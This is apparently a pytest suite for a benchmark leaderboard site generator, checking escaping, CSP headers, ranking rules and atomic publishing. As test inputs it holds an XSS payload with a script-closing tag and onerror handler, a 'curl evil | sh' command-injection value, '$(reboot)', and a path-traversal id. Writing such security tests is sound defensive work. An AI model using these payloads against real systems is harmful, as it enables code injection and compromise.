"""The leaderboard: what it shows, what it refuses, and that nothing in a record can become markup or a wrong rank."""

from __future__ import annotations

import html
import json
import re
import subprocess
import sys
import tarfile
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import IO, cast
from urllib.parse import unquote, urlsplit

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from hilbench.cli.publish import publish as command
from hilbench.errors import StoreError, UsageError
from hilbench.measure.profile import profile_of
from hilbench.records.directory import DirectoryStore
from hilbench.records.record import Record
from hilbench.records.remake import remade
from hilbench.records.replace import replacement
from hilbench.records.store import EVERYTHING, Document, Query, open_store
from hilbench.records.verify import check
from hilbench.reports.reproduce import commands
from hilbench.reports.site import names, script_data, views
from hilbench.reports.site import pages as site_pages
from hilbench.reports.site.build import MARKER, Published, publish
from hilbench.reports.site.pool import pool

from .conftest import ROOT, run_python
from .generated_records import generated
from .real_records import forged

pytest.importorskip("jinja2")

HOSTILE = "</script><img src=x onerror=alert(1)>\"'&\u2028\u202e{{7*7}}"


class Page(HTMLParser):
    """What a page refers to, and all that could be code in it."""

    def __init__(self, path: Path) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []
        self.ids: set[str] = set()
        self.code: list[str] = []
        self.tags: list[str] = []
        self.text: list[str] = []
        self._script = False
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self.tags.append(tag)
        self.ids |= {given["id"] or ""} if "id" in given else set()
        self.links += [given[key] or "" for key in ("href", "src") if key in given]
        self.code += [f"{key}={value}" for key, value in attrs if key.startswith("on") or key == "style"]
        self._script = tag == "script" or tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        if self._script and data.strip():
            self.code.append(data)
        self.text.append(data)


class Documents:
    """A store of documents as they are, bad ones too."""

    def __init__(self, documents: Sequence[Document]) -> None:
        self._documents = documents

    def put(self, record: Record) -> str:
        raise AssertionError(record)

    def get(self, record_id: str) -> Record:
        raise AssertionError(record_id)

    def documents(self, query: Query = EVERYTHING) -> Iterator[Document]:
        yield from self._documents


def documents(records: Sequence[Record]) -> list[Document]:
    return [Document(record.id, f"/secret/{record.id}.json", record.to_json()) for record in records]


def made(folder: Path, found: Sequence[Document], jobs: int = 1) -> Published:
    return publish(Documents(found), folder / "site", jobs)


def changed(record: Record, **parts: object) -> Record:
    return Record.model_validate(record.model_dump(by_alias=True) | parts)


def pages(site: Path) -> dict[str, Page]:
    return {path.relative_to(site).as_posix(): Page(path) for path in site.rglob("*.html")}


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("generated")
    made(folder, documents(list(generated(144))))
    return folder / "site"


def row_data(site: Path) -> list[dict[str, object]]:
    texts = [path.read_text() for path in sorted((site / "rows").glob("*.js"))]
    return [json.loads(text.removeprefix("hilbenchRow(").removesuffix(");\n")) for text in texts]


def test_every_link_leads_somewhere_and_none_leaves_the_site(site: Path):
    found = pages(site)
    assert len(found) == 48 + 3 + 4 + 3 + 4
    for name, page in found.items():
        for link in page.links:
            url = urlsplit(link)
            if url.scheme == "data":
                continue
            assert not url.scheme and not url.netloc and not link.startswith("/"), (name, link)
            target = (site / name).parent / unquote(url.path) if url.path else site / name
            assert target.is_file(), (name, link)
            if url.fragment and not target.name.startswith("compare"):
                assert url.fragment in Page(target).ids, (name, link)


def test_no_page_holds_code_and_all_forbid_it(site: Path):
    for name, page in pages(site).items():
        assert page.code == [], name
        text = (site / name).read_text()
        assert "default-src 'none'; script-src 'self'; style-src 'self'" in text
        assert "base-uri 'none'; form-action 'none'" in text


def test_ids_of_a_page_are_unique_and_tables_have_captions_and_scopes(site: Path):
    for path in site.rglob("*.html"):
        text = path.read_text()
        ids = re.findall(r'\sid="([^"]*)"', text)
        assert len(ids) == len(set(ids)), path
        assert text.count("<main") == text.count("<h1") == 1 and '<html lang="en">' in text
        for table in re.findall(r'<table class="data".*?</table>', text, re.DOTALL):
            assert "<caption" in table
            assert re.findall(r"<th(?![^>]*scope=)[ >]", table) == []


def test_the_same_store_gives_the_same_bytes_however_many_work_on_it(tmp_path: Path):
    found = documents(list(generated(260, tasks=["digits"], boards=["bench-m4", "mps2-an386"])))
    one = made(tmp_path / "1", found, jobs=1)
    two = made(tmp_path / "2", found, jobs=2)
    assert tree(one.folder) == tree(two.folder)


def tree(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_a_row_shows_its_newest_record_and_its_archive_holds_all_as_they_were_sealed(site: Path, tmp_path: Path):
    records = [r for r in generated(144) if (r.task, r.board.id, r.framework.variant) == ("digits", "bench-m4", "tvm")]
    (archive,) = (site / "history").glob("digits-bench-m4-tvm_*.tar.gz")
    with tarfile.open(archive) as files:
        kept = {member.name: cast(IO[bytes], files.extractfile(member)).read() for member in files}
    assert kept == {f"{record.id}.json": record.to_json().encode() for record in records}
    newest = records[-1]
    assert (site / "records" / f"{newest.id}.json").read_bytes() == newest.to_json().encode()
    document = Document(newest.id, "", (site / "records" / f"{newest.id}.json").read_text())
    assert check(document).state == "ok"
    text = (site / "rows" / archive.name.replace(".tar.gz", ".html")).read_text()
    assert all(record.id in text for record in records)


def test_a_table_never_mixes_what_was_measured_with_what_was_counted(site: Path):
    for path in (site / "tasks").glob("*.html"):
        for section in path.read_text().split("<section")[1:]:
            (ranked,) = re.findall(r"Ranked by (\w+), lowest first; basis: (\w+)", section)
            boards = set(re.findall(r'href="\.\./rows/\w+?-(bench-m\d|mps2-an\d+)', section))
            assert len(boards) == 1
            assert ranked == (("cycles", "measured") if "bench" in boards.pop() else ("instructions", "counted"))


def test_another_model_or_other_inputs_are_another_table(tmp_path: Path):
    first, second = list(generated(2, tasks=["digits"], boards=["bench-m4"], frameworks=["tvm", "tflm"]))
    model = {**second.model.model_dump(), "sha256": "f" * 64}
    made(tmp_path, documents([first, changed(second, model=model)]))
    text = (tmp_path / "site/tasks/digits.html").read_text()
    assert text.count("<section") == 2 and text.count('<td class="num rank">1</td>') == 2


def test_a_record_whose_numbers_do_not_follow_is_shown_apart_and_never_ranked(tmp_path: Path):
    first, second = list(generated(2, tasks=["digits"], boards=["bench-m4"], frameworks=["tvm", "tflm"]))
    metrics = second.model_dump()["metrics"]
    metrics["cycles"]["value"] = metrics["cycles"]["median"] = metrics["cycles"]["min"]
    liar = changed(second, metrics=metrics)
    assert check(documents([liar])[0]).state == "failed"
    made(tmp_path, documents([first, liar]))
    text = (tmp_path / "site/tasks/digits.html").read_text()
    ranked, apart = text.split("Failed verification, not ranked")
    assert "-tflm_" not in ranked.partition("<section")[2] and "-tflm_" in apart and "FAILED" in apart
    assert "1 FAILED" in (tmp_path / "site/index.html").read_text()
    (row,) = (tmp_path / "site/rows").glob("*-tflm_*.html")
    assert "not ranked: failed verification" in row.read_text()


def test_a_row_below_its_bar_says_why_it_has_no_place(site: Path):
    text = (site / "tasks/digits.html").read_text()
    assert "not ranked: fidelity is 0.958333 (counted), expected at least 1" in text


def bare(record: Record) -> Record:
    """Return a record that was compared with no reference, and twice as fast as it was."""
    metrics = {name: metric for name, metric in record.metrics.items() if not name.startswith("fidelity")}
    times = tuple(tuple((a, b // 2, c) for a, b, c in visit) for visit in record.samples.times)
    warmup = tuple((a, b // 2, c) for a, b, c in record.samples.warmup)
    samples = record.samples.model_copy(update={"reference": None, "times": times, "warmup": warmup})
    faster = record.model_copy(update={"reference": None, "bars": {}, "samples": samples, "metrics": metrics})
    return faster.model_copy(update={"metrics": metrics | remade(faster).metrics})


def test_who_was_compared_with_no_reference_is_unverified_wherever_his_place_stands(tmp_path: Path):
    first, second = list(generated(2, tasks=["digits"], boards=["bench-m4"], frameworks=["tvm", "tflm"]))
    fast = bare(second)
    assert check(documents([fast])[0]).state == "ok"
    made(tmp_path, documents([first, fast]))
    site = tmp_path / "site"
    rows = re.findall(r"<tr.*?</tr>", (site / "tasks/digits.html").read_text(), re.DOTALL)
    (row,) = (row for row in rows if "-tflm_" in row)
    assert '<td class="num rank" data-value="1">1<span class="basis">unverified</span></td>' in row
    assert "best" not in row.partition(">")[0] and "not fully checked" in row
    (page,) = (site / "rows").glob("*-tflm_*.html")
    assert "1 of 2 by cycles, unverified" in page.read_text()
    assert "fidelity: its outputs were compared with no reference" in page.read_text()
    assert "measured, unverified; best of 2" in (site / "index.html").read_text()
    (verified,) = (row for row in rows if "-tvm_" in row)
    assert '<td class="num rank">2</td>' in verified and "unverified" not in verified


def test_what_to_type_is_what_the_report_says(tmp_path: Path):
    (record,) = generated(1, tasks=["digits"], boards=["mps2-an386"])
    profile = profile_of([[5, 6, 7]] * 3, record.model.operators, record.board, "0" * 32)
    record = changed(record, board={**record.board.model_dump(), "id": "mine"}, profile=profile,
                     target={**record.target.model_dump(), "kind": "renode"},
                     dataset={**record.dataset.model_dump(), "of": 500}, source={"commit": "-f"})  # fmt: skip
    made(tmp_path, documents([record]))
    (row,) = (tmp_path / "site/rows").glob("*.html")
    (shown,) = re.findall(r"<pre[^>]*><code>(.*?)</code>", row.read_text(), re.DOTALL)
    assert html.unescape(shown).splitlines() == [*commands([record]), f"hilbench verify {record.id}.json"]
    assert commands([record]) == [
        "pip install 'hilbench[tvm]==0.1.0'",
        "pytest suites/digits.hil.yaml --board=mine@renode --framework=tvm --hil-samples=24 --hil-profile",
    ]


def test_a_row_that_breaks_a_page_is_refused_and_the_others_are_published(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    found = list(generated(6, tasks=["digits"], boards=["bench-m4"], frameworks=["tvm", "tflm", "emlearn"]))
    facts, notes = site_pages._facts, views.notes_of

    def no_facts(record: Record) -> list[tuple[str, str]]:
        return facts(record) if record.framework.name != "tflm" else [][0]

    def no_notes(records: Sequence[Record]) -> list[str]:
        assert all(record.framework.name != "emlearn" for record in records)
        return notes(records)

    monkeypatch.setattr(site_pages, "_facts", no_facts)
    monkeypatch.setattr(views, "notes_of", no_notes)
    done = made(tmp_path, documents(found))
    assert (done.rows, done.records) == (1, 2)
    reasons = {one.id: one.reason for one in done.refused}
    assert reasons.keys() == {found[4].id, found[5].id}
    assert "its row, of 2 records, cannot be shown: IndexError: list index out of range" in reasons[found[4].id]
    for part in ("rows", "records", "history"):
        assert all("-tvm" in path.name for path in (done.folder / part).iterdir())
    assert '<td class="num rank">1</td>' in (done.folder / "tasks/digits.html").read_text()


def hostile_record(record: Record) -> Record:
    given = record.model_dump(by_alias=True)
    given |= {"task": HOSTILE, "suite": HOSTILE, "missing": {HOSTILE: HOSTILE}, "host": {HOSTILE: HOSTILE}}
    given["source"] = {"commit": HOSTILE, "branch": HOSTILE}
    given["board"] |= {"id": HOSTILE, "name": HOSTILE}
    given["target"] |= {"version": HOSTILE, "stand_in": HOSTILE, "attached": {HOSTILE: HOSTILE}}
    given["framework"] |= {"name": HOSTILE, "variant": HOSTILE, "version": HOSTILE, "versions": {HOSTILE: HOSTILE}}
    given["model"] |= {"name": HOSTILE}
    given["dataset"] |= {"name": HOSTILE}
    given["image"] |= {"compiler": HOSTILE, "flags": [HOSTILE]}
    given["metrics"] |= {HOSTILE: {"value": 1e99, "unit": "s", "basis": "estimated", "model": HOSTILE}}
    return Record.model_validate(given)


def test_what_others_wrote_is_text_wherever_it_stands(tmp_path: Path):
    (record,) = generated(1)
    done = made(tmp_path, documents([hostile_record(record)]))
    assert done.rows == 1
    for name, page in pages(done.folder).items():
        assert page.code == [], name
        assert "img" not in page.tags, name
        for link in page.links:
            assert urlsplit(link).scheme in ("", "data"), (name, link)
    for path in done.folder.rglob("*.js"):
        if path.name not in ("app.js", "site.js", "rows_page.js", "compare.js"):
            assert not set("<>&\u2028\u2029\u202e") & set(path.read_text()), path
    assert "\u202e" not in "".join(path.read_text() for path in done.folder.rglob("*.html"))


def test_a_command_to_copy_holds_no_command_of_others(tmp_path: Path):
    (record,) = generated(1)
    framework = {**record.framework.model_dump(), "variant": "tvm; curl evil | sh", "name": "$(reboot)"}
    made(tmp_path, documents([changed(record, framework=framework)]))
    (row,) = (tmp_path / "site/rows").glob("*.html")
    (commands,) = re.findall(r"<pre[^>]*><code>(.*?)</code>", row.read_text(), re.DOTALL)
    assert "&#39;--framework=tvm; curl evil | sh&#39;" in commands
    assert "reboot" not in commands


def bad_documents(good: Record) -> dict[str, tuple[Document, str]]:
    text = good.to_json()
    newer = text.replace("hilbench.record/2", "hilbench.record/9")
    newer = newer[: newer.rindex(',\n "seal"')] + "\n}\n"
    future = changed(good, id="future", started="9999-01-01T00:00:00+00:00")
    timeless = forged({**good.model_dump(mode="json", by_alias=True), "id": "timeless"}, ("started",), HOSTILE)
    return {
        "truncated": (Document("truncated", "/secret/a", text[: len(text) // 2]), "not a hilbench.record/2 record"),
        "empty": (Document("empty", "/secret/b", ""), "not a hilbench.record/2 record"),
        "flipped": (Document("flipped", "/secret/c", text.replace('"digits"', '"digitz"', 1)), "seal is broken"),
        "newer": (Document("newer", "/secret/d", newer), "hilbench.record/9"),
        "deep": (Document("deep", "/secret/e", "[" * 100_000), "not a hilbench.record/2 record"),
        "misnamed": (Document("misnamed", "/secret/f", text), "is kept as 'misnamed'"),
        "huge": (Document("huge", "/secret/g", "", StoreError("70000000 bytes", where="/secret/g")), "70000000"),
        "future": (Document("future", "/secret/h", future.to_json()), "in the future"),
        "timeless": (Document("timeless", "/secret/i", timeless), "started: Value error"),
        HOSTILE: (Document(HOSTILE, "/secret/j", "{}"), "not a hilbench.record/2 record"),
    }


def test_bad_documents_are_refused_with_their_reason_and_the_rest_is_published(tmp_path: Path):
    good, other = list(generated(2))
    bad = bad_documents(good)
    again = Document(good.id.upper(), "/secret/k", changed(other, id=good.id.upper()).to_json())
    done = made(tmp_path, [*documents([good, other]), *(document for document, _ in bad.values()), again])
    assert (done.rows, done.records) == (2, 2)
    reasons = {refused.id: refused.reason for refused in done.refused}
    assert len(reasons) == len(bad) + 1
    for name, (_, words) in bad.items():
        if name != HOSTILE:
            assert words in reasons[name]
    assert "same id" in reasons[good.id.upper()]
    page = Page(done.folder / "refused.html")
    assert page.code == [] and "img" not in page.tags and "future" in "".join(page.text)
    everything = b"".join(tree(done.folder).values())
    assert b"/secret" not in everything  # where this computer keeps its files is nobody's business


def test_an_id_that_is_a_path_stays_inside_the_site(tmp_path: Path):
    (record,) = generated(1)
    evil = changed(record, id="../../../evil/\x00")
    done = made(tmp_path, documents([evil]))
    assert sorted(path.name for path in tmp_path.rglob("*evil*")) == [path.name for path in done.folder.rglob("*evil*")]
    (archive,) = (done.folder / "history").iterdir()
    with tarfile.open(archive) as files:
        assert all("/" not in name and ".." not in name for name in files.getnames())


def test_a_text_of_a_megabyte_is_cut_on_its_page(tmp_path: Path):
    (record,) = generated(1)
    framework = {**record.framework.model_dump(), "variant": "x" * 2**20, "version": "y" * 2**20}
    done = made(tmp_path, documents([changed(record, framework=framework, missing={"energy": "z" * 2**20})]))
    assert done.rows == 1
    for path in [*done.folder.rglob("*.html"), *done.folder.rglob("*.js")]:
        assert path.stat().st_size < 200_000, path


def test_an_old_site_stays_when_there_is_nothing_to_show(tmp_path: Path):
    made(tmp_path, documents(list(generated(3))))
    before = tree(tmp_path / "site")
    with pytest.raises(StoreError, match="none of 1 records can be shown"):
        made(tmp_path, [Document("bad", "bad", "{")])
    with pytest.raises(StoreError, match="none of 0 records"):
        made(tmp_path, [])
    assert tree(tmp_path / "site") == before
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


def test_an_interrupted_publish_leaves_the_old_site(tmp_path: Path):
    made(tmp_path, documents(list(generated(3))))
    before = tree(tmp_path / "site")

    class Interrupted(Documents):
        def documents(self, query: Query = EVERYTHING) -> Iterator[Document]:
            yield from documents(list(generated(2)))
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        publish(Interrupted([]), tmp_path / "site", 1)
    assert tree(tmp_path / "site") == before
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


def killed(folder: Path, code: str) -> None:
    """Publish into `folder`/site in a process that `code` kills."""
    done = run_python(f"""
import os, signal, sys
from pathlib import Path
sys.path.insert(0, {str(ROOT)!r})
from tests.generated_records import generated
from tests.test_site import documents, made
from hilbench.records import replace
from hilbench.reports.site import build
def die(*_): os.kill(os.getpid(), signal.SIGKILL)
{code}
made(Path({str(folder)!r}), documents(list(generated(2))))
""")
    assert done.returncode == -9, done.stderr


def test_what_a_killed_publish_left_is_cleared_away_by_the_next(tmp_path: Path):
    made(tmp_path, documents(list(generated(3))))
    before = tree(tmp_path / "site")
    killed(tmp_path, "build._tables = die")
    assert tree(tmp_path / "site") == before and len(list(tmp_path.iterdir())) == 2
    (tmp_path / ".site.mine").mkdir()
    made(tmp_path, documents(list(generated(2))))
    assert sorted(path.name for path in tmp_path.iterdir()) == [".site.mine", "site"]


def test_there_is_a_whole_site_whenever_a_publish_is_killed(tmp_path: Path):
    made(tmp_path, documents(list(generated(3))))
    before = tree(tmp_path / "site")
    killed(tmp_path, "replace.put_in_place = die")
    assert tree(tmp_path / "site") == before
    killed(tmp_path, "put = replace.put_in_place\nreplace.put_in_place = lambda *paths: (put(*paths), die())")
    assert len(list((tmp_path / "site/rows").glob("*.html"))) == 2


def test_where_folders_cannot_be_exchanged_the_next_publish_puts_the_site_back(tmp_path: Path):
    made(tmp_path, documents(list(generated(3))))
    killed(
        tmp_path,
        """
real = Path.rename
def rename(self, to):
    real(self, to)
    if self.name == "site": die()
Path.rename, replace._exchanged = rename, lambda *_: False
""",
    )
    assert not (tmp_path / "site").exists()
    with pytest.raises(StoreError, match="none of 0 records"):
        made(tmp_path, [])
    assert [path.name for path in tmp_path.iterdir()] == ["site"]
    assert (tmp_path / "site" / MARKER).is_file()


def test_two_publishes_at_once_leave_one_whole_site(tmp_path: Path):
    with replacement(tmp_path / "site", lambda folder: True) as other:
        (other / "mine").touch()
        made(tmp_path, documents(list(generated(1))))
        assert (other / "mine").exists()
    assert [path.name for path in (tmp_path / "site").iterdir()] == ["mine"]
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


@pytest.mark.parametrize("place", ["records", ".", "sqlite:{}/rows.db"])
def test_a_store_inside_the_site_is_not_deleted(tmp_path: Path, place: str):
    made(tmp_path, documents(list(generated(2))))
    site = tmp_path / "site"
    before = tree(site)
    spec = place.format(site) if ":" in place else str(site / place)
    if ":" in place:
        pytest.importorskip("sqlalchemy")
    with pytest.raises(UsageError, match="would be gone with the old site"):
        publish(open_store(spec), site, 1)
    assert tree(site) == before


def test_a_new_site_replaces_the_old_one_whole(tmp_path: Path):
    made(tmp_path, documents(list(generated(3))))
    made(tmp_path, documents(list(generated(1, tasks=["other"]))))
    assert len(list((tmp_path / "site/rows").glob("*.html"))) == 1
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


def test_a_folder_of_somebody_is_not_written_over(tmp_path: Path):
    (tmp_path / "site").mkdir()
    (tmp_path / "site/thesis.txt").write_text("ten years")
    with pytest.raises(UsageError, match="is not written over"):
        made(tmp_path, documents(list(generated(1))))
    assert [path.name for path in (tmp_path / "site").iterdir()] == ["thesis.txt"]


def test_an_empty_folder_is_used(tmp_path: Path):
    (tmp_path / "site").mkdir()
    assert (made(tmp_path, documents(list(generated(1)))).folder / MARKER).is_file()


def test_permalinks_stay_when_more_records_come(tmp_path: Path):
    first = made(tmp_path / "1", documents(list(generated(16, tasks=["digits"]))))
    second = made(tmp_path / "2", documents(list(generated(32, tasks=["digits"]))))
    assert [p.name for p in sorted(first.folder.glob("rows/*"))] == [
        p.name for p in sorted(second.folder.glob("rows/*"))
    ]


@given(st.text(max_size=60), st.text(max_size=60))
def test_two_names_never_share_a_page_whatever_the_file_system(one: str, other: str):
    assert re.fullmatch(r"[a-z0-9_-]{1,60}", names.page(one))
    if one != other:
        assert names.page(one) != names.page(other)


@given(st.text(max_size=300))
def test_a_file_name_is_one_name_in_one_folder(record_id: str):
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._=-]{0,199}", names.file(record_id))


@settings(max_examples=40)
@given(
    st.recursive(
        st.text() | st.integers() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
    )
)
def test_data_for_scripts_holds_nothing_that_could_end_a_script(value: object):
    text = script_data.call("f", value)
    assert text.isascii() and not set("<>&") & set(text)
    assert json.loads(text[2:-3]) == script_data.clean(value)


def double(number: int) -> int:
    return 2 * number


@pytest.mark.parametrize("count", [0, 1, 300])
def test_a_pool_keeps_the_order(count: int):
    with pool(2) as workers:
        assert list(workers.apply(double, range(count))) == [(n, 2 * n) for n in range(count)]


def test_the_command_tells_what_it_refused_and_ends_with_0_unless_strict(tmp_path: Path):
    store = DirectoryStore(tmp_path / "store")
    for record in generated(2):
        store.put(record)
    for index in range(30):
        (tmp_path / "store" / f"bad-{index:02}.json").write_text("{")
    arguments = [str(tmp_path / "store"), "-o", str(tmp_path / "site")]
    done = CliRunner().invoke(command, arguments)
    assert done.exit_code == 0 and "2 rows of 2 records, 30 refused" in done.output
    assert done.stderr.count("refused: bad-") == 20 and "refused: 10 more" in done.stderr
    assert CliRunner().invoke(command, [*arguments, "--strict"]).exit_code == 1


def test_nothing_at_all_ends_with_4(tmp_path: Path):
    (tmp_path / "store").mkdir()
    program = "from hilbench.cli import main; main()"
    arguments = ["publish", str(tmp_path / "store"), "-o", str(tmp_path / "site")]
    done = subprocess.run([sys.executable, "-c", program, *arguments], capture_output=True, text=True, check=False)
    assert done.returncode == 4 and "none of 0 records can be shown" in done.stderr
    assert not (tmp_path / "site").exists()


def test_without_jinja2_the_command_says_what_to_install(tmp_path: Path):
    program = "import sys; sys.modules['jinja2'] = None; from hilbench.cli import main; main()"
    arguments = ["publish", str(tmp_path), "-o", str(tmp_path / "site")]
    done = subprocess.run([sys.executable, "-c", program, *arguments], capture_output=True, text=True, check=False)
    assert done.returncode == 3 and "pip install 'hilbench[report]'" in done.stderr
